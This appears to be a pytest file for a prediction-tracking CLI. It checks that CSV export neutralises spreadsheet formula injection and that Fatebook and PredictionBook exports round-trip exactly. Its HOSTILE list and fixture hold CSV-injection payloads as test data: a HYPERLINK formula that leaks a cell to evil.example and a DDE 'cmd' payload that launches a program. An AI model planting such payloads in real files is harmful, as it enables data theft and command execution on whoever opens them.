"""export --csv is safe to open in a spreadsheet and still imports exactly; export --format
writes files Fatebook's spreadsheet import and PredictionBook readers take."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import Tracker


@pytest.fixture
def tracker(backend_tracker: Tracker) -> Tracker:
    """These tests run on SQLite and on PostgreSQL with the same expectations."""
    return backend_tracker

FORMATS = Path(__file__).parent / "fixtures" / "formats"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "'=already quoted", "''two"]


pytestmark = pytest.mark.usefixtures("exports_today")


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def hostile_record(tracker: Tracker) -> None:
    for number, claim in enumerate(HOSTILE):
        tracker("add", "--author", "@attacker" if number == 0 else "Ann", "--date", "2021-01-01", "-p", "0.4",
                "--outlet", "=cmd|' /C calc'!A0", "--tag=-tag", "--quote", "=1+1\nsecond line", "--", claim)


def test_export_csv_neutralises_cells_a_spreadsheet_would_run(tracker: Tracker) -> None:
    hostile_record(tracker)
    rows = rows_of(tracker("export", "--csv").stdout)
    assert [row["claim"] for row in rows] == ["'" + claim for claim in HOSTILE]
    assert rows[0]["author"] == "'@attacker" and rows[1]["author"] == "Ann"
    assert {row["outlet"] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert {row["tags"] for row in rows} == {"'-tag"}
    assert {row["quote"] for row in rows} == {"'=1+1\nsecond line"}
    assert {row["date"] for row in rows} == {"2021-01-01"} and {row["probability"] for row in rows} == {"0.4"}
    for row in rows:
        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def test_json_export_stays_exact_and_the_csv_round_trip_restores_every_cell(tracker: Tracker, tmp_path: Path) -> None:
    hostile_record(tracker)
    lines = [json.loads(line) for line in tracker("export", "--json").stdout.splitlines()]
    assert [line["claim"] for line in lines] == HOSTILE
    path = tmp_path / "sheet.csv"
    path.write_text(tracker("export", "--csv").stdout, encoding="utf-8")
    copy = Tracker(tmp_path / "copy.db")
    summary = copy("import", str(path), "--json").json()
    assert summary["predictions_added"] == len(HOSTILE)  # every hash matched its un-neutralised fields

    def strip(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
        return [{k: v for k, v in row.items() if k not in ("id", "claim_id")} for row in rows]

    assert strip(copy("list", "--json").json()) == strip(tracker("list", "--json").json())


def test_export_format_fatebook_writes_its_spreadsheet_import_columns(tracker: Tracker) -> None:
    tracker("import", str(FORMATS / "fatebook.csv"))
    tracker.add("No probability stated", author="Sam Rivera")
    result = tracker("export", "--format", "fatebook", "--author", "Noor Haddad")
    [row] = rows_of(result.stdout)
    assert row == {
        "questionTitle": "Will the EU AI Act be published in the Official Journal before 1 August 2024?",
        "forecast": "65%", "qCreatedAt": "2024-03-01", "resolution": "YES", "resolvedAt": "2024-07-12",
        "resolveBy": "2024-07-31", "fCreatedAt": "2024-03-02", "tags": "ai, eu policy, fatebook",
        "notes": "By Noor Haddad in Fatebook.",
    }
    everyone = tracker("export", "--format", "fatebook")
    assert len(rows_of(everyone.stdout)) == 10
    assert "left out 1 prediction(s) without a probability" in everyone.stderr


def fatebook_hash_string(text: str) -> int:
    """``hashString`` of Sage-Future/fatebook ``lib/web/utils.ts``, written again here: over
    UTF-16 code units, ``hash = (hash << 5) - hash + chr`` kept to a signed 32-bit int."""
    value = 0
    for unit in memoryview(text.encode("utf-16-le")).cast("H"):
        value = ((value << 5) - value + unit) & 0xFFFFFFFF
    return value - 2**32 if value >= 2**31 else value


def fatebook_import(text: str) -> dict[int, dict[str, Any]]:
    """Fatebook's ``importFromCsv`` (``lib/web/import_router.ts``) on a file, row by row: the
    question id is hashString(questionTitle + qCreatedAt); each row upserts the question
    (title, createdAt, resolution, resolvedAt, resolveBy and notes from that row) and adds
    its forecast: parseFloat(forecast without "%") / 100 made at fCreatedAt || qCreatedAt;
    tags (split on ",", trimmed, empty ones dropped) are connected."""
    questions: dict[int, dict[str, Any]] = {}
    for row in rows_of(text):
        key = fatebook_hash_string(row["questionTitle"] + row["qCreatedAt"])
        resolution = row["resolution"].strip().lower()
        question = questions.setdefault(key, {"forecasts": [], "tags": set()})
        question.update(
            title=row["questionTitle"], createdAt=row["qCreatedAt"],
            resolution={"yes": "YES", "no": "NO", "": None}.get(resolution, "AMBIGUOUS"),
            resolveBy=row["resolveBy"] or None, resolvedAt=(row["resolvedAt"] or None) if resolution else None,
            notes=row["notes"],
        )
        question["forecasts"].append((float(row["forecast"].replace("%", "").strip()) / 100, row["fCreatedAt"] or row["qCreatedAt"]))
        question["tags"] |= {tag.strip() for tag in row["tags"].split(",") if tag.strip()}
    return questions


def test_fatebook_import_of_the_export_makes_one_question_per_claim(tracker: Tracker) -> None:
    tracker("import", str(FORMATS / "fatebook.csv"))
    # One claim forecast on three days by two people; two claims that share their words and
    # first day (their deadlines differ); two whose keys meet in Fatebook's 32-bit hash
    # ("Aa" and "BB" hash alike).
    first = tracker.add("Will the bridge open by July 2025?", "-p", "0.7", "--deadline", "2025-06-30", author="Ann", date="2024-01-05")
    tracker.add("Will the bridge open by July 2025?", "-p", "0.4", "--deadline", "2025-06-30", author="Bob", date="2024-01-06")
    tracker.add("Will the bridge open by July 2025?", "-p", "0.85", "--deadline", "2025-06-30", "--quote", "It “will” open",
                author="Ann", date="2024-02-01")
    tracker("resolve", str(first), "--outcome", "false", "--date", "2025-07-01")
    tracker.add("Same words", "-p", "0.8", "--deadline", "2024-09-01", date="2024-02-02")
    other = tracker.add("Same words", "-p", "0.3", "--deadline", "2025-09-01", date="2024-02-02")
    tracker("resolve", str(other), "--outcome", "true", "--date", "2025-06-01")
    tracker.add("Will Aa win?", "-p", "0.6", "--deadline", "2025-01-01", date="2024-03-03")
    tracker.add("Will BB win?", "-p", "0.2", "--deadline", "2025-01-01", date="2024-03-03")
    text = tracker("export", "--format", "fatebook").stdout
    questions = fatebook_import(text)

    claims: dict[int, list[dict[str, Any]]] = {}
    for prediction in tracker("list", "--json", "--all").json():
        if prediction["probability"] is not None:
            claims.setdefault(prediction["claim_id"], []).append(prediction)
    assert len(questions) == len(claims)  # nothing merged, nothing split
    by_title = {q["title"]: q for q in questions.values()}
    for claim_id, predictions in claims.items():
        words = predictions[0]["claim"]
        title = f"{words} (tracker claim {claim_id})" if words in ("Same words", "Will Aa win?", "Will BB win?") else words
        question = by_title[title]
        assert sorted(question["forecasts"]) == sorted((p["probability"], p["date"]) for p in predictions)
        assert question["createdAt"] == min(p["date"] for p in predictions)
        assert question["resolveBy"] == predictions[0]["deadline"]
        outcome = predictions[0]["outcome"]
        assert question["resolution"] == {True: "YES", False: "NO", None: None}.get(outcome, "AMBIGUOUS")
        assert question["resolvedAt"] == (predictions[0]["resolved_on"] if outcome is not None else None)
        assert question["tags"] == {tag for p in predictions for tag in p["tags"]}
        for p in predictions:  # Fatebook keeps the last row's notes: they name every forecaster
            assert f"By {p['author']}" in question["notes"]
    bridge = by_title["Will the bridge open by July 2025?"]
    assert bridge["notes"] == ("By Ann on 2024-01-05 (70%). By Bob on 2024-01-06 (40%). "
                               "By Ann on 2024-02-01 (85%). “It “will” open”")
    assert fatebook_hash_string("Will Aa win?2024-03-03") == fatebook_hash_string("Will BB win?2024-03-03")


def test_export_format_predictionbook_reads_back_with_its_ids(tracker: Tracker, tmp_path: Path) -> None:
    tracker("import", str(FORMATS / "predictionbook.csv"), "--crowd-as-creator", "--author", "nameless")
    path = tmp_path / "my_predictions.csv"
    path.write_text(tracker("export", "--format", "predictionbook").stdout, encoding="utf-8")
    with path.open(newline="", encoding="utf-8") as handle:
        header = next(csv.reader(handle))
    assert header == ["created_at", "creator_id", "creator_label", "deadline", "description_with_group", "description",
                      "group_id", "id", "mean_confidence", "outcome", "prediction_group_id", "last_judgement_at",
                      "updated_at", "uuid", "version", "visibility", "withdrawn"]
    copy = Tracker(tmp_path / "copy.db")
    assert copy("import", str(path), "--crowd-as-creator", "--json").json()["predictions_added"] == 11

    def essence(t: Tracker) -> list[tuple[Any, ...]]:
        lines = [json.loads(line) for line in t("export", "--json").stdout.splitlines()]
        return sorted((x["claim_ref"], x["claim"], x["author"], x["date"], x["deadline"], x["probability"],
                       [(r["outcome"], r["resolved_on"]) for r in x["resolutions"]]) for x in lines)

    assert essence(copy) == essence(tracker)


def test_predictionbook_round_trip_keeps_every_claim_apart_and_every_score(tracker: Tracker, tmp_path: Path) -> None:
    tracker("import", str(FORMATS / "metaculus_question_data.csv"), str(FORMATS / "metaculus_forecast_data.csv"))
    tracker("import", str(FORMATS / "fatebook.csv"))
    # Claims from another system that share words and deadline with each other and with a
    # claim of tracker's own; a probability that is no whole percentage.
    for number, outcome in ((501, "true"), (502, "false")):
        (tmp_path / "pb.csv").write_text(
            "created_at,deadline,description,id,mean_confidence,outcome,last_judgement_at,creator_label\n"
            f"2020-01-0{number - 499} 00:00:00 UTC,2021-01-01 00:00:00 UTC,Twin question,{number},70,{outcome},"
            "2021-01-02 00:00:00 UTC,gwern\n", encoding="utf-8")
        tracker("import", str(tmp_path / "pb.csv"), "--crowd-as-creator")
    native = tracker.add("Twin question", "-p", "0.725", "--deadline", "2021-01-01", date="2020-06-01")
    tracker("resolve", str(native), "--outcome", "true", "--date", "2021-01-03")
    path = tmp_path / "out.csv"
    tracker("export", "--format", "predictionbook", "-o", str(path))
    rows = rows_of(path.read_text(encoding="utf-8"))
    assert {row["uuid"] for row in rows if row["id"]} == {"predictionbook:501", "predictionbook:502"}
    assert all(row["uuid"] for row in rows)

    copy = Tracker(tmp_path / "copy.db")
    copy("import", str(path), "--crowd-as-creator")

    def claims(t: Tracker) -> list[tuple[Any, ...]]:
        grouped: dict[int, list[tuple[Any, ...]]] = {}
        for p in t("list", "--json", "--all").json():
            if p["probability"] is not None:
                grouped.setdefault(p["claim_id"], []).append((p["claim"], p["author"], p["date"], p["deadline"], p["probability"],
                                                             p["outcome"] if p["outcome"] in (True, False) else None))
        return sorted(sorted(group) for group in grouped.values())

    assert claims(copy) == claims(tracker)
    twins = [group for group in claims(copy) if group[0][0] == "Twin question"]
    assert sorted(p[4] for group in twins for p in group) == [0.7, 0.7, 0.725]

    def scores(t: Tracker) -> list[dict[str, Any]]:  # ambiguous and annulled come back unjudged, so not "resolved"
        # Sums taken in another row order may differ in the last binary digit (0.25125 and
        # 0.25125000000000003): compare to 12 significant digits.
        return [{k: float(f"{v:.12g}") if isinstance(v, float) else v for k, v in row.items() if k != "resolved"}
                for row in t("scorecard", "--json").json()]

    assert scores(copy) == scores(tracker)


def test_a_file_that_gives_one_question_two_outcomes_is_refused_at_the_second(tracker: Tracker, tmp_path: Path) -> None:
    path = tmp_path / "pb.csv"
    path.write_text(
        "created_at,deadline,description,id,mean_confidence,outcome,last_judgement_at,creator_label,uuid\n"
        "2020-01-01 00:00:00 UTC,2021-01-01 00:00:00 UTC,Same claim,,70,true,2021-01-02 00:00:00 UTC,gwern,\n"
        "2020-01-02 00:00:00 UTC,2021-01-01 00:00:00 UTC,Same claim,,40,false,2021-01-02 00:00:00 UTC,kuudes,\n"
        "2020-01-03 00:00:00 UTC,2021-01-01 00:00:00 UTC,Other claim,,40,false,2021-01-02 00:00:00 UTC,kuudes,metaculus:7\n"
        "2020-01-04 00:00:00 UTC,2021-01-01 00:00:00 UTC,Other claim,,45,true,2021-01-02 00:00:00 UTC,gwern,metaculus:7\n",
        encoding="utf-8")
    message = tracker.fails("import", str(path), "--crowd-as-creator").stderr
    assert "line 3: outcome false contradicts outcome true given for the same question on line 2" in message
    summary = tracker("import", str(path), "--crowd-as-creator", "--skip-invalid", "--json").json()
    assert (summary["predictions_added"], summary["refused"]) == (2, 2)
    rejects = rows_of((tmp_path / "pb.rejects.csv").read_text(encoding="utf-8"))
    assert [row["line"] for row in rejects] == ["3", "5"]
    assert [p["outcome"] for p in tracker("list", "--json").json()] == [False, True]


@pytest.mark.parametrize(("args", "message"), [
    (("--format", "metaculus"), "--format 'metaculus' is not one of: fatebook, predictionbook"),
    (("--format", "fatebook", "--json"), "choose one output format"),
])
def test_export_format_mistakes_are_refused(tracker: Tracker, args: tuple[str, ...], message: str) -> None:
    tracker.add("Something", "-p", "0.5")
    assert message in tracker.fails("export", *args, code=2).stderr


@pytest.mark.parametrize("fmt", [("--format", "fatebook"), ("--format", "predictionbook"), ("--csv",), ("--json",)])
def test_export_of_an_author_with_no_predictions_is_refused_and_writes_nothing(tracker: Tracker, tmp_path: Path,
                                                                                fmt: tuple[str, ...]) -> None:
    tracker.add("Something", "-p", "0.5", author="Ann Analyst")
    out = tmp_path / "out.csv"
    failed = tracker.fails("export", *fmt, "--author", "Ann Analyts", "-o", str(out), code=2)
    assert "no predictions by author 'Ann Analyts'; did you mean 'Ann Analyst'?" in failed.stderr
    assert not out.exists()
    assert tracker.fails("export", *fmt, "--author", "Nobody", code=2).stdout == ""
